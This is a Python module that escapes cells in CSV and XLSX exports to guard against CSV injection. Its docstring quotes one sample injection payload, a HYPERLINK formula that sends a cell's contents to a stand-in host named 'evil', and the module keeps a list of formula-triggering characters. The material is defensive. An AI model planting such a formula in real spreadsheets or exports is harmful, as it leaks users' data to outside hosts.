"""Cells for CSV and XLSX exports that a spreadsheet never runs as a formula.

A name like ``=HYPERLINK("http://evil/?"&A1)`` or ``+49 511 ...`` typed by a company into
a survey or an offer would run as a formula when an office opens the export (CSV
injection, OWASP). Every export writes its rows through ``csv_row`` / ``xlsx_row``:

- CSV: a text starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
  leading apostrophe, which spreadsheets show as a text marker; ``csv_unescape`` takes it
  off again when such a file is imported back;
- XLSX: cells are typed, so text stays text; only openpyxl's habit of storing a text
  starting with ``=`` as a formula needs the cell forced to the string type.
"""

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _risky(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    return "'" + value if _risky(value) else value


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]


def csv_unescape(value):
    """The original text of a cell ``csv_cell`` escaped (for imports of our own exports)."""
    if isinstance(value, str) and len(value) > 1 and value[0] == "'" and _risky(value[1:]):
        return value[1:]
    return value


def xlsx_row(sheet, values) -> list:
    """``values`` for ``sheet.append``: texts starting with ``=`` stay text, not formulas."""
    row = []
    for value in values:
        if isinstance(value, str) and value.startswith("="):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row
